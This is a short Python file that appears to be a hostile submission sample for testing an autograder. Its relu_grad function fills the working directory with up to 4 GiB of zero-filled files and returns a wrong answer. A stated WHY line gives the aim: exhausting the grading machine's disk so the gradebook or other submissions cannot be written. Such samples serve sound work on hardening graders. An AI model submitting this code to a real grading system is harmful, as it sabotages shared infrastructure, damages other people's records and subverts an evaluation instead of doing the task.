"""Writes files as big as it can, as many as it can (up to 4 GiB in all), in its working
directory, and returns a wrong answer."""

import os

import numpy as np

EXERCISE = "activations"
ATTACKED = ("test_relu_grad",)
WHY = "fill the grading machine's disk so that the gradebook or other submissions cannot be written"

CHUNK = b"\0" * (8 << 20)


def relu_grad(x):
    for i in range(64):
        try:
            with open(f"fill-{i}", "wb") as f:
                for _ in range(8):
                    f.write(CHUNK)
        except OSError:
            continue
    return np.zeros(np.shape(x))
